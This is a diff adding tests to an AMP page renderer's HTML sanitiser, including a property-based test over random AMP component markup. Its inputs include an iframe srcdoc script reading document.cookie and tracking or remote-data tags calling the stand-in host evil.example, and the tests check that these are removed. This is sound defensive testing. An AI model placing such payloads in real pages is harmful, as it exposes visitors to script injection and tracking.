@@ -157,3 +157,104 @@ def test_nul_and_other_control_characters_in_a_body_are_removed_and_reported():
     assert result.html == '<p title="ab">cde</p>'
     [entry] = [e for e in result.report if e.code == "INVALID_CHARACTER"]
     assert entry.detail.startswith("3 ")
+
+
+# --------------------------------------------------------------------------- AMP markup in bodies
+
+
+def test_an_author_amp_iframe_loses_srcdoc_and_never_gets_top_navigation():
+    from amp_renderer.conversion import convert_html
+
+    result = convert_html(
+        '<amp-iframe src="https://evil.example/" width=100 height=100 srcdoc="<script>'
+        'alert(document.cookie)</script>" sandbox="allow-scripts allow-same-origin '
+        'allow-top-navigation allow-modals"></amp-iframe>')
+    assert "srcdoc" not in result.html and "<script" not in result.html
+    assert 'sandbox="allow-scripts allow-same-origin"' in result.html
+    details = " ".join(e.detail for e in result.report)
+    assert "srcdoc removed" in details and "allow-modals allow-top-navigation removed" in details
+
+
+def test_an_iframe_sandbox_may_be_stricter_than_the_default_never_looser():
+    from amp_renderer.conversion import convert_html
+
+    loose = convert_html('<iframe src="https://x.example/" sandbox="allow-top-navigation '
+                         'allow-scripts"></iframe>')
+    assert 'sandbox="allow-scripts"' in loose.html
+    none = convert_html('<iframe src="https://x.example/"></iframe>')
+    assert "allow-top-navigation" not in none.html and 'sandbox="allow-scripts ' in none.html
+
+
+@pytest.mark.parametrize("markup", [
+    '<amp-pixel src="https://evil.example/track?x=CLIENT_ID(x)"></amp-pixel>',
+    '<amp-analytics type="googleanalytics"><script type="application/json">{}</script>'
+    '</amp-analytics>',
+    '<amp-state id="s" src="https://evil.example/s.json"></amp-state>',
+    '<amp-list src="https://evil.example/l.json" width=10 height=10><template type='
+    '"amp-mustache">{{x}}</template></amp-list>',
+])
+def test_tracking_and_remote_data_components_are_removed_from_bodies(markup):
+    from amp_renderer.conversion import convert_html
+
+    result = convert_html(f"<p>before</p>{markup}<p>after</p>")
+    assert result.html == "<p>before</p><p>after</p>"
+    assert "evil" not in result.html and "DISALLOWED_TAG" in _codes(result)
+
+
+def test_state_bindings_are_removed():
+    from amp_renderer.conversion import convert_html
+
+    result = convert_html('<p [text]="secret" data-amp-bind-class="x">shown</p>')
+    assert result.html == "<p>shown</p>"
+
+
+def test_an_accordion_with_paragraph_children_is_unwrapped_keeping_its_text(site):
+    from amp_renderer.amp.validator import validate
+    from amp_renderer.models import parse_article
+    from amp_renderer.rendering import render
+
+    article = parse_article({"slug": "acc", "headline": "Accordion", "published": "2026-01-01",
+                             "body_html": "<amp-accordion><p>Kept text</p></amp-accordion>"})
+    page = render(article, site)
+    assert "<p>Kept text</p>" in page.html and "amp-accordion" not in page.html
+    assert validate(page.html).status == "PASS"
+
+
+_COMPONENTS = ["amp-accordion", "amp-carousel", "amp-sidebar", "amp-img", "amp-anim",
+               "amp-iframe", "amp-youtube", "amp-vimeo", "amp-twitter", "amp-instagram",
+               "amp-facebook", "amp-soundcloud", "amp-video", "amp-audio", "amp-fit-text",
+               "amp-social-share", "amp-gist", "amp-brightcove", "amp-lightbox-gallery",
+               "amp-pixel", "amp-analytics", "amp-layout", "amp-position-observer"]
+_ATTRS = ['layout="responsive"', 'layout="fixed"', 'layout="nodisplay"', 'layout="fill"',
+          'width="300"', 'height="200"', 'width="auto"', 'height="50%"',
+          'src="https://a.example/x"', 'src="http://a.example/x"', 'data-videoid="dQw4w9WgXcQ"',
+          'data-tweetid="1"', 'data-shortcode="abc"', 'type="slides"', 'placeholder', 'fallback',
+          'heights="(min-width:1px) 10px"',
+          'sandbox="allow-scripts"', 'data-href="https://www.facebook.com/x/posts/1"',
+          'alt="x"', 'srcdoc="<p>x</p>"', 'data-trackid="1"']
+_CHILDREN = ["text", "<p>para</p>", "<section><h2>h</h2><p>x</p></section>", "<div>d</div>",
+             "<span>s</span>", "<nav>n</nav>", "<h3>h</h3>", "<source src=\"https://a.example/v\">"]
+
+
+@st.composite
+def _component_markup(draw, depth=0):
+    tag = draw(st.sampled_from(_COMPONENTS))
+    attrs = " ".join(draw(st.lists(st.sampled_from(_ATTRS), max_size=4, unique=True)))
+    parts = draw(st.lists(st.sampled_from(_CHILDREN), max_size=3))
+    if depth < 1 and draw(st.booleans()):
+        parts.append(draw(_component_markup(depth=depth + 1)))
+    return f"<{tag} {attrs}>{''.join(parts)}</{tag}>"
+
+
+@settings(max_examples=100, deadline=None,
+          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
+@given(body=st.lists(_component_markup(), min_size=1, max_size=3).map("".join))
+def test_random_author_supplied_amp_component_markup_gives_a_valid_page(site, body):
+    from amp_renderer.amp.validator import validate
+    from amp_renderer.models import parse_article
+    from amp_renderer.rendering import render
+
+    article = parse_article({"slug": "components", "headline": "Components",
+                             "published": "2026-01-01", "body_html": body})
+    result = validate(render(article, site).html)
+    assert result.status == "PASS", [f"{e.code}: {e.message}" for e in result.errors]
